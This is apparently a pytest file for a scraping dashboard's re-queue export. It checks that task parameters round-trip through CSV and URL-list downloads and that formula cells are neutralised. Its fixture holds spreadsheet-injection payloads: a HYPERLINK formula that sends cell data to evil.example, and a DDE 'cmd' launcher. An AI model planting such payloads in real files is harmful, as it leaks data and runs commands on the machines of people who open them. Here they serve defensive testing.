"""The re-queue kit: the upload CSV round-trips params exactly, and the run page offers it."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from helpers import soup
from lobstr_dash.render import requeue
from lobstr_dash.render.exports import FORMULA_PREFIXES
from taskrows import task_row

RUN = "d" * 32

PARAMS: list[dict[str, Any]] = [
    {"url": "https://www.google.com/maps/search/café+Zürich/@47.37,8.54,14z", "max_results": 100},
    {"keyword": "Zürich café — 東京 🍣", "country": "DE",
     "filters": {"seniority": ["senior", "manager"], "company_size": "11-50",
                 "nested": {"deep": [1, 2.5, None, True, {"x": "é"}]}}},
    {"keyword": "42", "flag": "true", "nothing": "null", "list_text": "[1, 2]", "quoted": '"q"',
     "empty": "", "zero": 0, "float": 0.1, "big": 12345678901234567890, "bool": False, "none": None},
    {"keyword": "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
     "note": "@SUM(1+1)*cmd|' /C calc'!A0",
     "minus": "-5", "plus": "+33 6 12 34 56 78", "space": "  =1+1", "tab": "\tx", "quote": "'kept'"},
    {"keyword": "line one\nline two, with \"quotes\" and, commas", "=weird key": "v", "url": "x"},
    {},
    {"list": [], "object": {}, "text": "  spaced  "},
]


def test_the_upload_csv_gives_back_exactly_the_params_it_was_made_from() -> None:
    keys = requeue.columns(PARAMS)
    text = "".join(requeue.csv_lines(keys, PARAMS))
    assert requeue.read_csv(text) == PARAMS
    # Types survive too (1 is not True, "42" is not 42, 0.1 stays a float).
    back = requeue.read_csv(text)
    for original, restored in zip(PARAMS, back, strict=True):
        for key, value in original.items():
            assert type(restored[key]) is type(value), key
            assert json.dumps(restored[key]) == json.dumps(value)


def test_one_column_per_param_key_url_first() -> None:
    keys = requeue.columns(PARAMS)
    assert keys[0] == "url" and len(keys) == len(set(keys))
    assert set(keys) == {k for p in PARAMS for k in p}
    header = next(csv.reader(io.StringIO("".join(requeue.csv_lines(keys, PARAMS)))))
    assert header[0] == "url" and "'=weird key" in header and "keyword" in header


def test_no_cell_is_left_for_a_spreadsheet_to_run_as_a_formula() -> None:
    text = "".join(requeue.csv_lines(requeue.columns(PARAMS), PARAMS))
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES), cell


@pytest.mark.parametrize("value", ["plain", "42", "-1", "=1", "'", "''x", "", " ", "null", "é",
                                   "{\"a\": 1}", 3, -3, 1.5e300, None, True, [1, "2"], {"k": [None]}])
def test_each_value_round_trips_through_a_cell(value: Any) -> None:
    cell = requeue.neutralise_cell(requeue.encode_value(value))
    assert requeue.decode_value(requeue.restore_cell(cell)) == value


def test_the_url_list_has_each_url_once() -> None:
    urls = ["https://a.test/1", None, "https://a.test/2", "https://a.test/1", "", "bad\nurl"]
    assert list(requeue.url_lines(urls)) == ["https://a.test/1\n", "https://a.test/2\n"]


def short_run() -> list[dict[str, Any]]:
    """Complete, short and running tasks with varied params."""
    return [
        task_row(RUN, 0, params=PARAMS[0]),                                     # complete
        task_row(RUN, 1, params=PARAMS[1], status="error", done_reason="cookies_expired",
                 total_results=None, last_result=0),                            # account
        task_row(RUN, 2, params=PARAMS[2], status="aborted", done_reason="run_aborted",
                 last_result=10),                                               # aborted
        task_row(RUN, 3, params=PARAMS[3], status="error", done_reason="website_inaccessible",
                 last_result=0),                                                # site
        task_row(RUN, 4, params=PARAMS[4], last_result=60),                     # other (silent)
        task_row(RUN, 5, status="running", done_reason=None, last_result=3),    # running
        task_row(RUN, 6, total_results=None, last_result=4),                    # unknown
    ]


def test_the_run_page_kit_downloads_the_short_tasks_params(client: Any, upstream: Any) -> None:
    upstream.add_run(RUN, short_run())
    page = soup(client.get(f"/runs/{RUN}"))
    kit = page.select_one("#requeue")
    assert "4 tasks of these ended short" in kit.get_text(" ", strip=True)
    assert "de-duplicates identical params on the same squid" in kit.get_text()
    assert "retry" in kit.get_text()
    csv_link = kit.select_one("a[href*='requeue.csv']")["href"]
    response = client.get(csv_link)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert requeue.read_csv(response.get_data(as_text=True)) == [PARAMS[1], PARAMS[2], PARAMS[3],
                                                                 PARAMS[4]]
    urls = client.get(kit.select_one("a[href*='requeue.txt']")["href"])
    assert urls.mimetype == "text/plain" and urls.get_data(as_text=True) == "x\n"


def test_the_kit_follows_the_table_filters(client: Any, upstream: Any) -> None:
    upstream.add_run(RUN, short_run())
    site = client.get(f"/runs/{RUN}/requeue.csv?class=site&class=complete")
    assert requeue.read_csv(site.get_data(as_text=True)) == [PARAMS[3]]
    reason = client.get(f"/runs/{RUN}/requeue.csv?reason=run_aborted")
    assert requeue.read_csv(reason.get_data(as_text=True)) == [PARAMS[2]]
    text = client.get(f"/runs/{RUN}/requeue.csv?q=z%C3%BCrich")
    assert requeue.read_csv(text.get_data(as_text=True)) == [PARAMS[1]]
    nothing = client.get(f"/runs/{RUN}/requeue.csv?class=complete")
    assert nothing.status_code == 200 and nothing.get_data(as_text=True) == "\r\n"
    assert "None of these tasks ended short" in soup(client.get(f"/runs/{RUN}?class=complete")).select_one(
        "#requeue").get_text()
    bad = client.get(f"/runs/{RUN}/requeue.csv?class=nope")
    assert bad.status_code == 400 and bad.json["ok"] is False
    assert client.get(f"/runs/{RUN}/requeue.txt?class=nope").json["kind"] == "invalid_input"
    assert client.get(f"/runs/{RUN}/requeue.xml").status_code == 404
